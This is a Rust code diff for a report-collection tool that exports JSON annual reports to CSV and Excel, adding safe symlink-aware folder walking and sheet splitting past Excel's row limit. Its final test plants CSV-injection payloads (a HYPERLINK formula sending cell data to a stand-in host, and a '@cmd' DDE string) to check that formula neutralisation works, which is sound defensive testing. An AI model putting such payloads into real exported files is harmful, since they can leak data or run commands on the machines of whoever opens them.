@@ -13,9 +13,10 @@ use crate::report::{Date, Number, Report};
 use crate::template::ValueType;
 use crate::validate::{self, Finding, Severity};
 use crate::xlsx::{self, col_name, decimal_text, number_f64, Styles};
+use crate::{csv, files, input};
 use rust_decimal::Decimal;
 use rust_xlsxwriter::{Formula, Workbook, XlsxError};
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
 use std::path::{Path, PathBuf};
 
 /// One statutory cell of one report.
@@ -88,18 +89,103 @@ pub struct Collection {
     pub entries: Vec<Entry>,
     /// Files skipped.
     pub skipped: Vec<Skipped>,
+    /// Entries deliberately not read (see [`Inputs::ignored`]).
+    pub ignored: Vec<Skipped>,
     /// The wide sheet's value columns: the union of every report's cells.
     pub columns: Vec<Column>,
 }
 
-/// Expands inputs: files as given, directories recursively (`*.json`, sorted by path).
-/// Paths that do not exist are returned as skipped.
-pub fn expand_inputs(inputs: &[PathBuf]) -> (Vec<PathBuf>, Vec<Skipped>) {
-    fn walk(dir: &Path, out: &mut Vec<PathBuf>, skipped: &mut Vec<Skipped>) {
+/// The files a collection reads, found by [`expand_inputs`].
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Inputs {
+    /// Files to read, in order.
+    pub files: Vec<PathBuf>,
+    /// Inputs that could not be read (a path that does not exist, an unreadable folder).
+    pub skipped: Vec<Skipped>,
+    /// Entries deliberately not read, with the reason: not a regular file (FIFO, device,
+    /// socket), a folder already visited (a symbolic-link loop), a file already read under
+    /// another name.
+    pub ignored: Vec<Skipped>,
+}
+
+/// Expands inputs: files as given, folders recursively (`*.json`, sorted by path). Symbolic
+/// links are followed; a folder or file reached twice (a link loop, a second link to the same
+/// report) is read once and the repeat listed in [`Inputs::ignored`], as is every non-regular
+/// file found in a folder (a FIFO named `*.json` would block the walk forever). Files named on
+/// the command line are read whatever their type (`<(…)` is a pipe).
+pub fn expand_inputs(inputs: &[PathBuf]) -> Inputs {
+    let mut walk = Walk::default();
+    for i in inputs {
+        match std::fs::metadata(i) {
+            Ok(m) if m.is_dir() => {
+                if let Some(id) = files::file_id(&m) {
+                    walk.dirs.insert(id);
+                }
+                walk.dir(i);
+            }
+            Ok(m) => walk.file(i, &m, true),
+            Err(e) => walk.found.skipped.push(Skipped {
+                file: i.display().to_string(),
+                error: if e.kind() == std::io::ErrorKind::NotFound {
+                    "文件不存在 (no such file or directory)".into()
+                } else {
+                    format!("无法读取 (cannot read: {e})")
+                },
+            }),
+        }
+    }
+    walk.found
+}
+
+#[derive(Default)]
+struct Walk {
+    found: Inputs,
+    /// Folders visited (device, inode).
+    dirs: HashSet<(u64, u64)>,
+    /// Files taken (device, inode) → where first seen.
+    seen: HashMap<(u64, u64), PathBuf>,
+}
+
+impl Walk {
+    fn ignore(&mut self, p: &Path, why: String) {
+        self.found.ignored.push(Skipped {
+            file: p.display().to_string(),
+            error: why,
+        });
+    }
+
+    fn file(&mut self, p: &Path, m: &std::fs::Metadata, explicit: bool) {
+        if !m.is_file() {
+            if explicit {
+                self.found.files.push(p.to_path_buf());
+            } else {
+                self.ignore(
+                    p,
+                    "不是普通文件（FIFO、设备或套接字），未读取 (not a regular file)".into(),
+                );
+            }
+            return;
+        }
+        if let Some(id) = files::file_id(m) {
+            if let Some(first) = self.seen.get(&id) {
+                let why = format!(
+                    "与 {} 是同一个文件，只读一次 (same file as {})",
+                    first.display(),
+                    first.display()
+                );
+                self.ignore(p, why);
+                return;
+            }
+            self.seen.insert(id, p.to_path_buf());
+        }
+        self.found.files.push(p.to_path_buf());
+    }
+
+    fn dir(&mut self, dir: &Path) {
         let rd = match std::fs::read_dir(dir) {
             Ok(rd) => rd,
             Err(e) => {
-                skipped.push(Skipped {
+                self.found.skipped.push(Skipped {
                     file: dir.display().to_string(),
                     error: format!("无法读取目录 (cannot read directory: {e})"),
                 });
@@ -109,31 +195,32 @@ pub fn expand_inputs(inputs: &[PathBuf]) -> (Vec<PathBuf>, Vec<Skipped>) {
         let mut paths: Vec<PathBuf> = rd.filter_map(|e| e.ok()).map(|e| e.path()).collect();
         paths.sort();
         for p in paths {
-            if p.is_dir() {
-                walk(&p, out, skipped);
-            } else if p
+            let json = p
                 .extension()
-                .is_some_and(|x| x.eq_ignore_ascii_case("json"))
-            {
-                out.push(p);
+                .is_some_and(|x| x.eq_ignore_ascii_case("json"));
+            match std::fs::metadata(&p) {
+                Ok(m) if m.is_dir() => match files::file_id(&m) {
+                    Some(id) if !self.dirs.insert(id) => self.ignore(
+                        &p,
+                        "已访问过的目录（符号链接循环或重复链接），跳过 (folder already visited: a link loop)"
+                            .into(),
+                    ),
+                    _ => self.dir(&p),
+                },
+                Ok(m) if json => self.file(&p, &m, false),
+                Ok(_) => {}
+                Err(e) if json => self.found.skipped.push(Skipped {
+                    file: p.display().to_string(),
+                    error: format!("无法读取 (cannot read: {e})"),
+                }),
+                Err(_) => {
+                    if std::fs::symlink_metadata(&p).is_ok_and(|m| m.file_type().is_symlink()) {
+                        self.ignore(&p, "符号链接指向不存在的位置 (dangling symbolic link)".into());
+                    }
+                }
             }
         }
     }
-    let mut out = Vec::new();
-    let mut skipped = Vec::new();
-    for i in inputs {
-        if i.is_dir() {
-            walk(i, &mut out, &mut skipped);
-        } else if i.exists() {
-            out.push(i.clone());
-        } else {
-            skipped.push(Skipped {
-                file: i.display().to_string(),
-                error: "文件不存在 (no such file or directory)".into(),
-            });
-        }
-    }
-    (out, skipped)
 }
 
 /// The statutory cells of a report, in layout order.
@@ -194,10 +281,12 @@ fn cells_cached(report: &Report, cache: &mut ShapeCache) -> Vec<CellRecord> {
 
 fn read_one(path: &Path, cache: &mut ShapeCache, check: bool) -> Result<Entry, Skipped> {
     let file = path.display().to_string();
-    let text = std::fs::read_to_string(path).map_err(|e| Skipped {
-        file: file.clone(),
-        error: format!("无法读取文件 (cannot read: {e})"),
-    })?;
+    let text = input::read_file(path)
+        .and_then(input::decode)
+        .map_err(|e| Skipped {
+            file: file.clone(),
+            error: e.to_string(),
+        })?;
     let report = Report::from_json(&text).map_err(|e| Skipped {
         file: file.clone(),
         error: e.to_string(),
@@ -230,17 +319,34 @@ pub fn collect(inputs: &[PathBuf]) -> Collection {
 
 /// Reads every input and writes the workbook, validating the reports in worker threads while
 /// the long sheet is written (the same result as [`collect`] then [`Collection::xlsx`], faster).
+///
+/// # Errors
+/// [`ExportError::Writer`] when the workbook cannot be built.
 pub fn collect_workbook(inputs: &[PathBuf]) -> Result<(Collection, Vec<u8>), ExportError> {
-    let mut c = read_all(inputs, false);
-    let bytes = c.validate_and_write().map_err(|e| ExportError::Writer {
-        target: "xlsx",
-        message: e.to_string(),
-    })?;
+    collect_workbook_from(expand_inputs(inputs))
+}
+
+/// [`collect_workbook`] for inputs already expanded (so the caller can check its outputs
+/// against the files first).
+///
+/// # Errors
+/// [`ExportError::Writer`] when the workbook cannot be built.
+pub fn collect_workbook_from(inputs: Inputs) -> Result<(Collection, Vec<u8>), ExportError> {
+    let mut c = read_found(inputs, false);
+    let bytes = c.validate_and_write(SHEET_ROWS).map_err(writer_error)?;
     Ok((c, bytes))
 }
 
 fn read_all(inputs: &[PathBuf], check: bool) -> Collection {
-    let (files, mut skipped) = expand_inputs(inputs);
+    read_found(expand_inputs(inputs), check)
+}
+
+fn read_found(found: Inputs, check: bool) -> Collection {
+    let Inputs {
+        files,
+        mut skipped,
+        ignored,
+    } = found;
     let threads = threads();
     let chunk = files.len().div_ceil(threads).max(1);
     let results: Vec<Result<Entry, Skipped>> = std::thread::scope(|s| {
@@ -274,7 +380,9 @@ fn read_all(inputs: &[PathBuf], check: bool) -> Collection {
             Err(s) => skipped.push(s),
         }
     }
-    Collection::from_entries(entries, skipped)
+    let mut c = Collection::from_entries(entries, skipped);
+    c.ignored = ignored;
+    c
 }
 
 impl Collection {
@@ -306,6 +414,7 @@ impl Collection {
         Collection {
             entries,
             skipped,
+            ignored: Vec::new(),
             columns,
         }
     }
@@ -392,50 +501,44 @@ impl Collection {
         ]
     }
 
-    /// The wide table as CSV: one header line of stable keys, one line per report.
+    /// The wide table as CSV ([`crate::csv`]: RFC 4180, formulas neutralised): one header line
+    /// of stable keys, one line per report.
     pub fn wide_csv(&self) -> String {
         let mut out = String::new();
-        let header: Vec<String> = Self::LEAD
+        let header = Self::LEAD
             .iter()
             .map(|(k, _)| k.to_string())
-            .chain(self.columns.iter().map(|c| c.key.clone()))
-            .collect();
-        csv_line(&mut out, &header);
+            .chain(self.columns.iter().map(|c| c.key.clone()));
+        csv::write_record(&mut out, header);
         for (e, row) in self.entries.iter().zip(self.rows()) {
-            let mut fields: Vec<String> = Self::lead_values(e).to_vec();
-            fields.extend(
-                row.iter()
-                    .map(|v| v.map(|n| n.to_string()).unwrap_or_default()),
-            );
-            csv_line(&mut out, &fields);
+            let values = row
+                .iter()
+                .map(|v| v.map(|n| n.to_string()).unwrap_or_default());
+            csv::write_record(&mut out, Self::lead_values(e).into_iter().chain(values));
         }
         out
     }
 
-    /// The long table as CSV: one line per report cell.
+    /// The long table as CSV ([`crate::csv`]): one line per report cell.
     pub fn long_csv(&self) -> String {
         let mut out = String::new();
-        csv_line(
-            &mut out,
-            &LONG
-                .iter()
-                .map(|(k, _, _)| k.to_string())
-                .collect::<Vec<_>>(),
-        );
+        csv::write_record(&mut out, LONG.iter().map(|(k, _, _)| *k));
         for e in &self.entries {
             for c in &e.cells {
-                csv_line(&mut out, &long_fields(e, c));
+                csv::write_record(&mut out, long_fields(e, c));
             }
         }
         out
     }
 
-    /// The workbook: `汇总` (wide, with a live totals row), `长表`, `校验`, `未读入`.
+    /// The workbook: `汇总` (wide, with a live totals row), `长表`, `校验`, `未读入`. A sheet
+    /// longer than Excel's 1,048,576 rows continues on `长表2`, `长表3`, … (likewise `校验2`,
+    /// `未读入2`), each an Excel table with its own header row, so nothing is cut.
+    ///
+    /// # Errors
+    /// [`ExportError::Writer`] when the workbook cannot be built.
     pub fn xlsx(&self) -> Result<Vec<u8>, ExportError> {
-        self.write_xlsx().map_err(|e| ExportError::Writer {
-            target: "xlsx",
-            message: e.to_string(),
-        })
+        self.write_xlsx(SHEET_ROWS).map_err(writer_error)
     }
 
     fn workbook(&self) -> Result<Workbook, XlsxError> {
@@ -448,21 +551,19 @@ impl Collection {
             "报表汇总",
             self.date(),
         )?);
-        for name in ["汇总", "长表", "校验", "未读入"] {
-            wb.add_worksheet().set_name(name)?;
-        }
+        wb.add_worksheet().set_name("汇总")?;
         Ok(wb)
     }
 
-    fn write_xlsx(&self) -> Result<Vec<u8>, XlsxError> {
+    fn write_xlsx(&self, rows_per_sheet: u32) -> Result<Vec<u8>, XlsxError> {
         let s = Styles::new();
         let mut wb = self.workbook()?;
-        write_long(&self.entries, wb.worksheet_from_index(1)?)?;
-        self.write_rest(&mut wb, &s)?;
+        write_long(&self.entries, &mut wb, rows_per_sheet)?;
+        self.write_rest(&mut wb, &s, rows_per_sheet)?;
         wb.save_to_buffer()
     }
 
-    fn validate_and_write(&mut self) -> Result<Vec<u8>, XlsxError> {
+    fn validate_and_write(&mut self, rows_per_sheet: u32) -> Result<Vec<u8>, XlsxError> {
         use std::sync::atomic::{AtomicUsize, Ordering};
         use std::sync::OnceLock;
         let s = Styles::new();
@@ -482,18 +583,23 @@ impl Collection {
             for _ in 1..threads() {
                 sc.spawn(work);
             }
-            write_long(entries, wb.worksheet_from_index(1)?)?;
+            write_long(entries, &mut wb, rows_per_sheet)?;
             work();
             Ok(())
         })?;
         for (e, f) in self.entries.iter_mut().zip(found) {
             e.findings = f.into_inner().unwrap_or_default();
         }
-        self.write_rest(&mut wb, &s)?;
+        self.write_rest(&mut wb, &s, rows_per_sheet)?;
         wb.save_to_buffer()
     }
 
-    fn write_rest(&self, wb: &mut Workbook, s: &Styles) -> Result<(), XlsxError> {
+    fn write_rest(
+        &self,
+        wb: &mut Workbook,
+        s: &Styles,
+        rows_per_sheet: u32,
+    ) -> Result<(), XlsxError> {
         // 汇总: row 0 Chinese labels, row 1 stable keys, data from row 2, totals after.
         let ws = wb.worksheet_from_index(0)?;
         let lead = Self::LEAD.len() as u16;
@@ -553,36 +659,6 @@ impl Collection {
         }
         xlsx::print_setup(ws, Some(1))?;
         // 校验.
-        let ws = wb.worksheet_from_index(2)?;
-        let mut r = 1u32;
-        for e in &self.entries {
-            for f in &e.findings {
-                let vals = [
-                    e.file.as_str(),
-                    e.report.agency.as_str(),
-                    "",
-                    f.rule.as_str(),
-                    match f.severity {
-                        Severity::Error => "error",
-                        Severity::Warning => "warning",
-                        Severity::Info => "info",
-                    },
-                    f.path.as_str(),
-                    f.cell.as_str(),
-                    f.expected.as_deref().unwrap_or(""),
-                    f.actual.as_deref().unwrap_or(""),
-                    f.message.as_str(),
-                ];
-                for (i, v) in vals.iter().enumerate() {
-                    if i == 2 {
-                        ws.write_number(r, 2, e.report.year as f64)?;
-                    } else {
-                        ws.write_string(r, i as u16, *v)?;
-                    }
-                }
-                r += 1;
-            }
-        }
         let headers = [
             ("file", "文件", 28.0),
             ("agency", "机关", 28.0),
@@ -595,55 +671,138 @@ impl Collection {
             ("actual", "实为", 10.0),
             ("message", "说明", 70.0),
         ];
-        xlsx::finish_table(
-            ws,
-            &headers.map(|(k, _, w)| (k, w)),
-            r,
-            "collected_findings",
-        )?;
+        let findings = self
+            .entries
+            .iter()
+            .flat_map(|e| e.findings.iter().map(move |f| (e, f)));
+        let sheet = Split {
+            name: "校验",
+            table: "collected_findings",
+            headers: &headers,
+            rows_per_sheet,
+        };
+        sheet.write(wb, findings, |ws, r, (e, f)| {
+            let vals = [
+                e.file.as_str(),
+                e.report.agency.as_str(),
+                "",
+                f.rule.as_str(),
+                match f.severity {
+                    Severity::Error => "error",
+                    Severity::Warning => "warning",
+                    Severity::Info => "info",
+                },
+                f.path.as_str(),
+                f.cell.as_str(),
+                f.expected.as_deref().unwrap_or(""),
+                f.actual.as_deref().unwrap_or(""),
+                f.message.as_str(),
+            ];
+            for (i, v) in vals.iter().enumerate() {
+                if i == 2 {
+                    ws.write_number(r, 2, e.report.year as f64)?;
+                } else {
+                    ws.write_string(r, i as u16, *v)?;
+                }
+            }
+            Ok(())
+        })?;
         // 未读入.
-        let ws = wb.worksheet_from_index(3)?;
-        for (i, sk) in self.skipped.iter().enumerate() {
-            ws.write_string(1 + i as u32, 0, &sk.file)?;
-            ws.write_string(1 + i as u32, 1, &sk.error)?;
-        }
         let headers = [("file", "文件", 40.0), ("error", "错误", 100.0)];
-        xlsx::finish_table(
-            ws,
-            &headers.map(|(k, _, w)| (k, w)),
-            1 + self.skipped.len() as u32,
-            "skipped_files",
-        )?;
+        let sheet = Split {
+            name: "未读入",
+            table: "skipped_files",
+            headers: &headers,
+            rows_per_sheet,
+        };
+        sheet.write(wb, self.skipped.iter(), |ws, r, sk| {
+            ws.write_string(r, 0, &sk.file)?;
+            ws.write_string(r, 1, &sk.error)?;
+            Ok(())
+        })?;
         Ok(())
     }
 }
 
-fn write_long(entries: &[Entry], ws: &mut rust_xlsxwriter::Worksheet) -> Result<(), XlsxError> {
-    // 长表.
-    let mut r = 1u32;
-    for e in entries {
-        for c in &e.cells {
-            let f = long_fields(e, c);
-            for (i, v) in f.iter().enumerate() {
-                match i {
-                    2 => {
-                        ws.write_number(r, i as u16, e.report.year as f64)?;
-                    }
-                    10 => {
-                        if let Some(v) = c.value {
-                            ws.write_number(r, i as u16, number_f64(v))?;
-                        }
-                    }
-                    _ => {
-                        ws.write_string(r, i as u16, v)?;
+/// Data rows per sheet: Excel's 1,048,576 rows (its fixed limit) less the header row.
+const SHEET_ROWS: u32 = 1_048_576 - 1;
+
+fn writer_error(e: XlsxError) -> ExportError {
+    ExportError::Writer {
+        target: "xlsx",
+        message: e.to_string(),
+    }
+}
+
+/// A sheet that continues on `name2`, `name3`, … when its rows pass the per-sheet limit; each
+/// part is an Excel table (`table`, `table2`, …) with the same header row.
+struct Split<'a> {
+    name: &'a str,
+    table: &'a str,
+    headers: &'a [(&'a str, &'a str, f64)],
+    rows_per_sheet: u32,
+}
+
+impl Split<'_> {
+    fn write<T>(
+        &self,
+        wb: &mut Workbook,
+        rows: impl Iterator<Item = T>,
+        mut cell: impl FnMut(&mut rust_xlsxwriter::Worksheet, u32, T) -> Result<(), XlsxError>,
+    ) -> Result<(), XlsxError> {
+        let mut rows = rows.peekable();
+        for part in 1u32.. {
+            let suffix = if part == 1 {
+                String::new()
+            } else {
+                part.to_string()
+            };
+            let ws = wb.add_worksheet();
+            ws.set_name(format!("{}{suffix}", self.name))?;
+            let mut r = 1u32;
+            while r <= self.rows_per_sheet {
+                let Some(item) = rows.next() else { break };
+                cell(ws, r, item)?;
+                r += 1;
+            }
+            let columns: Vec<(&str, f64)> = self.headers.iter().map(|(k, _, w)| (*k, *w)).collect();
+            xlsx::finish_table(ws, &columns, r, &format!("{}{suffix}", self.table))?;
+            if rows.peek().is_none() {
+                break;
+            }
+        }
+        Ok(())
+    }
+}
+
+fn write_long(entries: &[Entry], wb: &mut Workbook, rows_per_sheet: u32) -> Result<(), XlsxError> {
+    let cells = entries
+        .iter()
+        .flat_map(|e| e.cells.iter().map(move |c| (e, c)));
+    let sheet = Split {
+        name: "长表",
+        table: "collected_data",
+        headers: &LONG,
+        rows_per_sheet,
+    };
+    sheet.write(wb, cells, |ws, r, (e, c)| {
+        for (i, v) in long_fields(e, c).iter().enumerate() {
+            match i {
+                2 => {
+                    ws.write_number(r, i as u16, e.report.year as f64)?;
+                }
+                10 => {
+                    if let Some(v) = c.value {
+                        ws.write_number(r, i as u16, number_f64(v))?;
                     }
                 }
+                _ => {
+                    ws.write_string(r, i as u16, v)?;
+                }
             }
-            r += 1;
         }
-    }
-    xlsx::finish_table(ws, &LONG.map(|(k, _, w)| (k, w)), r, "collected_data")?;
-    Ok(())
+        Ok(())
+    })
 }
 
 /// Columns of the long table: key, Chinese, width.
@@ -677,31 +836,12 @@ fn long_fields(e: &Entry, c: &CellRecord) -> [String; 11] {
     ]
 }
 
-fn csv_line(out: &mut String, fields: &[String]) {
-    for (i, f) in fields.iter().enumerate() {
-        if i > 0 {
-            out.push(',');
-        }
-        if f.contains([',', '"', '\n', '\r']) {
-            out.push('"');
-            out.push_str(&f.replace('"', "\"\""));
-            out.push('"');
-        } else {
-            out.push_str(f);
-        }
-    }
-    out.push('\n');
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
 
     #[test]
     fn csv_quotes_and_union_columns() {
-        let mut s = String::new();
-        csv_line(&mut s, &["a,b".into(), "c\"d".into(), "e".into()]);
-        assert_eq!(s, "\"a,b\",\"c\"\"d\",e\n");
         let c = collect(&[
             PathBuf::from("examples/demo-city-2024.json"),
             PathBuf::from("examples/demo-2019.json"),
@@ -735,5 +875,147 @@ mod tests {
         assert_eq!(bytes, c.xlsx().unwrap());
         assert_eq!(c2.entries[1].findings, c.entries[1].findings);
         assert!(!c.entries[1].findings.is_empty());
+    }
+
+    fn examples() -> Vec<PathBuf> {
+        vec![
+            PathBuf::from("examples/demo-city-2024.json"),
+            PathBuf::from("examples/demo-2019.json"),
+        ]
+    }
+
+    /// Sheet names and each sheet's table range, from the workbook's XML.
+    fn sheets(bytes: &[u8]) -> Vec<(String, String)> {
+        use std::io::Read;
+        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+        let mut read = |name: &str| {
+            let mut s = String::new();
+            zip.by_name(name).unwrap().read_to_string(&mut s).unwrap();
+            s
+        };
+        let wb = read("xl/workbook.xml");
+        let names: Vec<String> = wb
+            .split("<sheet name=\"")
+            .skip(1)
+            .map(|x| x[..x.find('"').unwrap()].to_string())
+            .collect();
+        let mut out = Vec::new();
+        let mut table = 1;
+        for (i, n) in names.iter().enumerate() {
+            let refs = if i == 0 {
+                String::new()
+            } else {
+                let t = read(&format!("xl/tables/table{table}.xml"));
+                table += 1;
+                let at = t.find(" ref=\"").unwrap() + 6;
+                t[at..at + t[at..].find('"').unwrap()].to_string()
+            };
+            out.push((n.clone(), refs));
+        }
+        out
+    }
+
+    #[test]
+    fn long_sheets_continue_on_numbered_sheets_without_losing_a_row() {
+        let c = collect(&examples());
+        let cells: usize = c.entries.iter().map(|e| e.cells.len()).sum();
+        let findings: usize = c.entries.iter().map(|e| e.findings.len()).sum();
+        assert!(
+            cells > 300 && findings >= 3,
+            "{cells} cells, {findings} findings"
+        );
+        let per = 100u32;
+        let bytes = c.write_xlsx(per).unwrap();
+        let got = sheets(&bytes);
+        let long: Vec<&(String, String)> =
+            got.iter().filter(|(n, _)| n.starts_with("长表")).collect();
+        assert_eq!(long.len(), cells.div_ceil(per as usize), "{got:?}");
+        assert_eq!(long[0].0, "长表");
+        assert_eq!(long[1].0, "长表2");
+        // Every part but the last is full; the rows add up to every cell exactly once.
+        let rows = |r: &str| -> usize {
+            let end = r.split(':').nth(1).unwrap();
+            end.trim_start_matches(|c: char| c.is_ascii_alphabetic())
+                .parse::<usize>()
+                .unwrap()
+                - 1
+        };
+        let total: usize = long.iter().map(|(_, r)| rows(r)).sum();
+        assert_eq!(total, cells);
+        assert_eq!(long[0].1, format!("A1:K{}", per + 1));
+        // Order: 汇总, 长表…, 校验…, 未读入.
+        let order: Vec<&str> = got.iter().map(|(n, _)| n.as_str()).collect();
+        assert_eq!(order[0], "汇总");
+        assert_eq!(*order.last().unwrap(), "未读入");
+        // Findings split the same way at a smaller limit.
+        let bytes = c.write_xlsx(2).unwrap();
+        let got = sheets(&bytes);
+        let checks = got.iter().filter(|(n, _)| n.starts_with("校验")).count();
+        assert_eq!(checks, findings.div_ceil(2));
+        // The pipelined path splits identically.
+        let mut c2 = read_all(&examples(), false);
+        assert_eq!(
+            c2.validate_and_write(per).unwrap(),
+            c.write_xlsx(per).unwrap()
+        );
+        // Under the limit nothing changes: one sheet each.
+        let names: Vec<String> = sheets(&c.xlsx().unwrap())
+            .into_iter()
+            .map(|x| x.0)
+            .collect();
+        assert_eq!(names, ["汇总", "长表", "校验", "未读入"]);
+    }
+
+    #[test]
+    fn the_walk_reads_regular_files_once_and_lists_what_it_ignored() {
+        let dir = std::env::temp_dir().join(format!("nianbao-walk-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(dir.join("sub")).unwrap();
+        std::fs::copy("examples/demo-2019.json", dir.join("a.json")).unwrap();
+        std::os::unix::fs::symlink(dir.join("a.json"), dir.join("sub/link.json")).unwrap();
+        std::os::unix::fs::symlink("..", dir.join("sub/up")).unwrap();
+        std::os::unix::fs::symlink(".", dir.join("self")).unwrap();
+        std::os::unix::fs::symlink("nowhere.json", dir.join("dangling.json")).unwrap();
+        let fifo = dir.join("pipe.json");
+        let made = std::process::Command::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .unwrap();
+        assert!(made.success());
+        let found = expand_inputs(std::slice::from_ref(&dir));
+        assert_eq!(found.files, vec![dir.join("a.json")]);
+        let ignored: Vec<&str> = found.ignored.iter().map(|s| s.file.as_str()).collect();
+        for name in ["pipe.json", "self", "sub/link.json", "sub/up"] {
+            let p = dir.join(name);
+            assert!(
+                ignored.contains(&p.to_str().unwrap()),
+                "{name}: {ignored:?}"
+            );
+        }
+        assert_eq!(found.skipped.len(), 1, "{:?}", found.skipped);
+        assert!(found.skipped[0].file.ends_with("dangling.json"));
+        // The same file named twice on the command line is read once.
+        let twice = expand_inputs(&[dir.join("a.json"), dir.join("sub/link.json")]);
+        assert_eq!(twice.files.len(), 1);
+        assert_eq!(twice.ignored.len(), 1);
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn csv_fields_cannot_become_formulas() {
+        let mut c = collect(&examples());
+        c.entries[0].report.agency = "=HYPERLINK(\"http://x/?\"&A1,\"x\")".into();
+        c.entries[1].file = "@cmd|' /C calc'!A0.json".into();
+        let wide = c.wide_csv();
+        assert!(
+            wide.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\""),
+            "{wide}"
+        );
+        assert!(wide.contains("'@cmd|"), "{wide}");
+        let long = c.long_csv();
+        assert!(long.contains("'=HYPERLINK"));
+        // 2019's 本年增/减 is negative in the demo and stays a number.
+        assert!(long.contains(",-15\r\n"), "{long}");
+        assert!(!long.contains(",'-"), "a negative number was neutralised");
     }
 }
